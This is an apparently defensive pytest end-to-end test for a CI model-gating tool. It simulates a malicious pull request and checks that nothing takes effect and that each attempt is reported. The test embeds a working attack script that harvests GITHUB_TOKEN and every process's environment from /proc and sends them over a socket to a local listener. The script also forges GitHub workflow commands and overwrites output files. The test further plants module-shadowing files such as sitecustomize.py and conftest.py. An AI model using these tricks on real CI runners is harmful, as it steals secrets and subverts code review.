"""A pull request that tries everything at once: nothing of it takes effect, and all of it is told."""

import json
import os
import re
import socket
import subprocess
import sys

import pytest
import yaml

from tests.e2e.proposals import opened
from tests.page import html, tags

MADE = "made/candidate.parquet"
HONEST = f"import shutil; shutil.copy('candidate.parquet', '{MADE}')"
COLUMN = "a | 0.99"
# What Python, pip and tools like them read from the folder that they are started in.
PLANTED = {
    "sitecustomize.py": "open('{marks}/sitecustomize', 'w')",
    "usercustomize.py": "open('{marks}/usercustomize', 'w')",
    "yaml.py": "open('{marks}/yaml', 'w'); raise SystemExit(0)",
    "pydantic.py": "open('{marks}/pydantic', 'w'); raise SystemExit(0)",
    "gates/__init__.py": "open('{marks}/gates', 'w'); raise SystemExit(0)",
    "conftest.py": "open('{marks}/conftest', 'w')",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/\n",
    ".env": "PYTHONPATH=.\nGITHUB_TOKEN=stolen\n",
    ".github/workflows/model-gates.yml": "on: push\njobs: {{}}\n",
}
# The command is the base branch's; the script that it runs is the pull request's.
HOSTILE = """
import os, pathlib, shutil, socket
shutil.copy('candidate.parquet', 'made/candidate.parquet')
print('::set-output name=verdict::pass')
print('::add-mask::fail')
secret = os.environ.get('GITHUB_TOKEN', '') + os.environ.get('SECRET', '')
for name in ('GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STEP_SUMMARY'):
    path = os.environ.get(name) or '{files}/' + name
    try:
        pathlib.Path(path).write_text('blocked=false')
    except OSError:
        pass
for path in pathlib.Path('/proc').glob('[0-9]*/environ'):
    try:
        secret += path.read_text(errors='replace')
    except OSError:
        pass
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(secret.encode() or b'-')
except OSError:
    pass
for target in ('model-gates.yml', '.model-gates/baselines/credit/aliases.json'):
    try:
        pathlib.Path(target).write_text('version: 1')
    except OSError:
        pass
if 'planted-secret' in secret:
    pathlib.Path('made/found').write_text(secret)
"""


@pytest.fixture
def listener():
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def tried(project, folder, port):
    """Open the pull request; return it, as GitHub checks it out."""
    marks, files = folder / "marks", folder / "files"
    marks.mkdir()
    files.mkdir()
    project.path("predict.py").write_text(HONEST)
    project.set("candidate", {"command": [sys.executable, "predict.py"], "predictions": MADE})
    performance = project.model["gates"]["performance"]
    performance["metrics"]["recall"] = {"min": 0.99}
    del project.model["gates"]["fairness"]
    pull = opened(project)
    project.set("gates.performance.metrics.recall.min", 0.01)
    project.set("gates.performance.slices", [{"name": COLUMN, "where": "age > 1"}])
    project.set("candidate.command", ["sh", "-c", f"touch {marks}/command"])
    waiver = {
        "rule": "performance/recall:min",
        "reason": "because I say that it is fine",
        "owner": "@mallory",
        "expires": "2026-12-01",
    }
    text = yaml.safe_dump({"version": 1, "waivers": [waiver]})
    project.path("model-gates.waivers.yml").write_text(text)
    project.register("candidate.parquet")
    for name, planted in PLANTED.items():
        path = project.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(planted.format(marks=marks))
    script = HOSTILE.replace("{files}", str(files)).replace("{port}", str(port))
    project.path("predict.py").write_text(script)
    return pull.propose()


@pytest.mark.requires_real("namespaces")
def test_nothing_of_it_takes_effect_and_the_report_says_what_was_tried(project, tmp_path, listener):
    folder = tmp_path / "outside"
    folder.mkdir()
    pull = tried(project, folder, listener.getsockname()[1])
    files = folder / "files"
    given = {name: str(files / name) for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")}
    environ = {"PATH": os.environ["PATH"], "SECRET": "planted-secret", **pull.environ(), **given}
    done = subprocess.run(
        [sys.executable, "-I", "-m", "gates", "run", "--github"],
        cwd=project.folder,
        env=environ,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    report = json.loads((project.folder / "model-gates-report/report.json").read_text())

    # By the base commit's rules it is blocked, held against the base commit's baseline.
    (model,) = report["models"]
    checks = {check["id"]: check for gate in model["gates"] for check in gate["checks"]}
    assert checks["performance/recall:min"]["limit"] == {"min": 0.99}
    assert checks["performance/recall:min"]["effect"] == "block"
    assert checks["performance/recall:min"]["waiver"] is None
    assert model["baseline"]["version"] == 1

    # Nothing that was planted was read, and nothing left the cage.
    assert list((folder / "marks").iterdir()) == []
    assert not project.path("made/found").exists()
    with pytest.raises(BlockingIOError):
        listener.accept()
    assert "planted-secret" not in done.stdout + done.stderr + json.dumps(report)
    assert "::set-output" not in done.stdout + done.stderr
    assert "::add-mask" not in done.stdout + done.stderr
    output = (files / "GITHUB_OUTPUT").read_text()
    assert re.search(r"^blocked<<(\S+)\ntrue\n\1$", output, re.MULTILINE)
    assert "blocked=false" not in output
    assert sorted(path.name for path in files.iterdir()) == sorted(given)

    # And it is told, one by one.
    told = "\n".join(report["policy"]["changes"])
    base = "models.credit."
    assert (
        f"`{base}gates.performance.metrics.recall.min`: 0.99 → 0.01 proposed, not applied" in told
    )
    assert f"`{base}candidate.command`" in told
    assert f"`{base}gates.performance.slices`" in told
    assert "waiver of `performance/recall:min`: added, not applied" in told
    assert "baseline alias `champion` of `credit`: v1 → v2 proposed, not applied" in told
    page = (project.folder / "model-gates-report/report.md").read_text("utf-8")
    assert COLUMN in page.replace("\\|", "|")
    assert not {"a", "img", "script"} & set(tags(html(page.replace("[run](", "("))))
